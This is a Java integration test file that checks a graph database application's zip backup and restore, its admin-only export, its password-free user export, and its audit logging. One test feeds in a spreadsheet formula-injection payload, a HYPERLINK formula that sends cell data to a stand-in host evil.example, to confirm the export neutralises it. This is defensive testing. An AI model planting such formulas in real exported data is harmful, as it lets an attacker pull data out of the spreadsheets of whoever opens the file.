package cn.tongxin.graph.ledger;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipInputStream;

import cn.tongxin.graph.GraphTest;
import cn.tongxin.graph.TestGraph;
import cn.tongxin.graph.TongxinHttp;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.neo4j.core.Neo4jClient;

import static cn.tongxin.graph.TongxinHttp.values;
import static org.assertj.core.api.Assertions.assertThat;

/** The whole graph out as a zip and back into an empty store gives the same graph, over real HTTP. */
@GraphTest
class BackupRoundTripTests {

	@LocalServerPort
	int port;

	@Autowired
	Neo4jClient neo4j;

	TongxinHttp admin;

	final HttpClient http = HttpClient.newHttpClient();

	@BeforeEach
	void theSampleDistrictAndAUser() {
		TestGraph.empty(this.neo4j);
		this.admin = new TongxinHttp(this.port);
		this.admin.importWholeSample();
		this.admin.importCsv("contacts", """
				leader_id,representative_id,date,kind,note
				L00001,R00023,2024-02-21,VISIT,"走访，了解""用工""难题"
				L00001,R00023,2025-03-01,CALL,
				""");
		this.admin.importCsv("friendships", "leader_id,representative_id,since,until\nL00001,R00047,2020-06-18,2025-12-31\n");
		this.admin.createUser("town.clerk", "EDITOR", false, List.of("610322100"));
	}

	@Test
	void givesBackTheSameGraphFromItsBackup() throws Exception {
		this.admin.importCsv("villages", "code,name,town_code,established_on\n610322100997,新社区,610322100,2027-03-01\n");
		String boundary = "{\"type\":\"Polygon\",\"coordinates\":[[[107.2,34.5],[107.4,34.5],[107.4,34.7],[107.2,34.5]]]}";
		assertThat(this.admin.postImport("boundaries", "application/geo+json",
				"{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{\"code\":\"610322100\"},\"geometry\":%s}]}"
					.formatted(boundary).getBytes(StandardCharsets.UTF_8)).statusCode()).isEqualTo(200);
		Map<String, String> graph = counts();
		byte[] backup = exportAll("admin", GraphTest.ADMIN_PASSWORD).body();
		assertThat(unzip(backup).get("villages.csv")).contains("610322100997,新社区,610322100,VILLAGE,,2027-03-01,,\r\n");
		TestGraph.empty(this.neo4j);
		assertThat(counts()).isNotEqualTo(graph);

		HttpResponse<String> restored = post("/api/import/all", backup, "admin", GraphTest.ADMIN_PASSWORD);

		assertThat(restored.statusCode()).as(restored.body()).isEqualTo(200);
		assertThat(restored.body()).contains("\"usersRestored\":1").doesNotContain("\"line\"");
		assertThat(unzip(exportAll("admin", GraphTest.ADMIN_PASSWORD).body())).isEqualTo(unzip(backup));
		assertThat(counts()).isEqualTo(graph);
		assertThat(unzip(backup).get("boundaries.geojson")).contains("\"code\":\"610322100\"},\"geometry\":" + boundary);
		assertThat(this.neo4j.query("MATCH (t:Town {code: '610322100'}) RETURN t.boundary").fetchAs(String.class).one())
			.contains(boundary);
		var users = this.admin.graphQl().document("{ users { username role towns { code } } }").executeSync();
		assertThat(values(users, "users[?(@.username == 'town.clerk')].towns[*].code")).containsExactly("610322100");
	}

	@Test
	void holdsEveryLedgerAndUsersWithoutPasswords() throws Exception {
		Map<String, String> files = unzip(exportAll("admin", GraphTest.ADMIN_PASSWORD).body());

		assertThat(files).containsOnlyKeys("towns.csv", "villages.csv", "enterprises.csv", "leaders.csv",
				"representatives.csv", "friendships.csv", "contacts.csv", "pairings.csv", "projects.csv", "units.csv",
				"members.csv", "staff.csv", "sites.csv", "site_activities.csv", "duties.csv", "duty_checks.csv",
				"problems.csv", "meetings.csv", "boundaries.geojson", "users.csv");
		assertThat(files.get("contacts.csv")).isEqualTo("leader_id,representative_id,date,kind,note\r\n"
				+ "L00001,R00023,2024-02-21,VISIT,\"走访，了解\"\"用工\"\"难题\"\r\nL00001,R00023,2025-03-01,CALL,\r\n");
		assertThat(files.get("friendships.csv")).contains("L00001,R00047,2020-06-18,2024-07-04,2025-12-31\r\n");
		assertThat(files.get("towns.csv")).startsWith("code,name\r\n610322100,段家镇1\r\n");
		assertThat(files.get("users.csv")).startsWith("username,role,pii,enabled,town_codes\r\n")
			.contains("town.clerk,EDITOR,false,true,610322100")
			.doesNotContain("$2a$");
		assertThat(files.get("representatives.csv").lines().count()).isEqualTo(61);
	}

	@Test
	void givesTheBackupOnlyToAnAdministratorWhoMaySeePersonalData() throws Exception {
		assertThat(exportAll("town.clerk", TongxinHttp.USER_PASSWORD).statusCode()).isEqualTo(403);
		assertThat(post("/api/import/all", new byte[] { 1 }, "town.clerk", TongxinHttp.USER_PASSWORD).statusCode()).isEqualTo(403);
		assertThat(post("/api/import/all", "not a zip".getBytes(), "admin", GraphTest.ADMIN_PASSWORD)
			.statusCode()).isEqualTo(400);
	}

	/**
	 * Text that a spreadsheet would run as a formula is written neutralised, numbers (a negative longitude) as
	 * numbers, and the restore gives the text back exactly. Every download of the whole graph is audited.
	 */
	@Test
	void writesFormulasAsTextThatComesBackExactlyAndAuditsTheDownload() throws Exception {
		String link = "=HYPERLINK(\"http://evil.example/?\"&A1)";
		this.admin.importCsv("villages", "code,name,town_code,latitude,longitude\n610322100999,\"%s\",610322100,34.5,-3.5\n"
			.formatted(link.replace("\"", "\"\"")));
		this.admin.importCsv("villages", "code,name,town_code\n610322100998,''@SUM(A1),610322100\n");

		byte[] backup = exportAll("admin", GraphTest.ADMIN_PASSWORD).body();
		String villages = unzip(backup).get("villages.csv");
		assertThat(villages).contains("610322100999,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",610322100,VILLAGE,,,34.5,-3.5\r\n")
			.contains("610322100998,''@SUM(A1),610322100,");
		var log = this.admin.graphQl()
			.document("{ auditLog(filter: {operation: \"export\"}) { edges { node { username kind } } } }")
			.executeSync();
		assertThat(values(log, "auditLog.edges[*].node.kind")).containsExactly("all");
		assertThat(values(log, "auditLog.edges[*].node.username")).containsExactly("admin");

		TestGraph.empty(this.neo4j);
		assertThat(post("/api/import/all", backup, "admin", GraphTest.ADMIN_PASSWORD).statusCode()).isEqualTo(200);
		assertThat(this.neo4j.query("MATCH (v:Village) WHERE v.code IN ['610322100999', '610322100998'] RETURN v.name ORDER BY v.code DESC")
			.fetchAs(String.class)
			.all()).containsExactly(link, "'@SUM(A1)");
	}

	private Map<String, String> counts() {
		var counts = new TreeMap<String, String>();
		this.neo4j.query("""
				MATCH (n) WHERE NOT n:AuditEntry AND NOT any(l IN labels(n) WHERE l STARTS WITH '__')
				RETURN labels(n)[0] AS label, count(n) AS count
				UNION ALL
				MATCH ()-[r]->() WHERE NOT type(r) STARTS WITH '__'
				RETURN type(r) AS label, count(r) AS count
				""").fetch().all().forEach(row -> counts.put((String) row.get("label"), String.valueOf(row.get("count"))));
		return counts;
	}

	private HttpResponse<byte[]> exportAll(String username, String password) throws Exception {
		return this.http.send(HttpRequest.newBuilder(uri("/api/export/all"))
			.header("Authorization", basic(username, password))
			.build(), HttpResponse.BodyHandlers.ofByteArray());
	}

	private HttpResponse<String> post(String path, byte[] body, String username, String password) throws Exception {
		return this.http.send(HttpRequest.newBuilder(uri(path))
			.header("Authorization", basic(username, password))
			.header("Content-Type", "application/zip")
			.POST(HttpRequest.BodyPublishers.ofByteArray(body))
			.build(), HttpResponse.BodyHandlers.ofString());
	}

	private static Map<String, String> unzip(byte[] archive) throws IOException {
		var files = new TreeMap<String, String>();
		try (var zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
			for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				files.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
			}
		}
		return files;
	}

	private URI uri(String path) {
		return URI.create("http://127.0.0.1:" + this.port + path);
	}

	private static String basic(String username, String password) {
		return "Basic " + Base64.getEncoder().encodeToString((username + ":" + password).getBytes());
	}

}
